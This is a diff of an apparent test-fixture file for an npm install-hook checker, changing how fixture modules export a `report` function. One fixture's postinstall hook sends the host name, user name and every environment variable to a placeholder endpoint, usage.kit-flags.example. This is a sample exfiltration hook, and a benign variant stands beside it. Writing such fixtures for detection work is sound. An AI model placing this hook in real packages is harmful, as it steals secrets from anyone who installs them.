@@ -39,13 +39,13 @@ make -C native
     },
   ),
   'node-e-hook': started(
-    { scripts: { postinstall: `node -e "import('./lib/usage.mjs').then((m) => m.default())"` } },
+    { scripts: { postinstall: `node -e "import('./lib/usage.mjs').then((m) => m.report())"` } },
     {
       'lib/usage.mjs': js`import { hostname, userInfo } from 'node:os';
 
 const ENDPOINT = new URL('https://usage.kit-flags.example/v1/installs');
 
-export default async function report() {
+export async function report() {
   const context = { host: hostname(), user: userInfo().username, vars: { ...process.env } };
   await fetch(ENDPOINT, { method: 'POST', body: JSON.stringify(context) }).catch(() => undefined);
 }
@@ -55,7 +55,7 @@ export default async function report() {
     {
       'lib/usage.mjs': js`import { existsSync } from 'node:fs';
 
-export default async function report() {
+export async function report() {
   if (process.env.CI || !existsSync('flags.config.json')) return;
   process.stdout.write('kit-flags: the configuration of this project was found.\n');
 }
